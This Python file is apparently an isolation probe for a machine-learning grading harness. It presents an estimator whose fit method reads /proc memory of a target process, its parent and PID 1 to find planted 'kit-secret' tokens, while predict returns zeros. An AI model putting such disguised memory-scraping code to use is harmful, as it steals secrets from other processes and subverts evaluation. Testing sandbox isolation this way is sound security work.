"""Reads the memory of the process that started it, through /proc."""

import json
import os
import re
from pathlib import Path

import numpy as np

TARGETS = json.loads(Path("targets.json").read_text())


def show(where, content):
    """Print what of the planted secrets is in some bytes."""
    content = content if isinstance(content, bytes) else str(content).encode(errors="replace")
    for found in set(re.findall(rb"kit-secret-[0-9a-f]{32}", content)):
        print("found in", where, found.decode())


class Estimator:
    def read(self, pid, memory, low, high):
        """Look through one stretch of memory."""
        try:
            memory.seek(low)
            show(f"memory of {pid}", memory.read(min(high - low, 1 << 27)))
        except (OSError, ValueError):
            return

    def fit(self, X, y):
        for pid in {str(TARGETS["pid"]), str(os.getppid()), "1"}:
            try:
                maps = Path(f"/proc/{pid}/maps").read_text()
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for low, high in re.findall(r"^([0-9a-f]+)-([0-9a-f]+) rw", maps, re.M):
                        self.read(pid, memory, int(low, 16), int(high, 16))
            except OSError:
                continue
        return self

    def predict(self, X):
        return np.zeros(len(X))


def get_estimator():
    return Estimator()
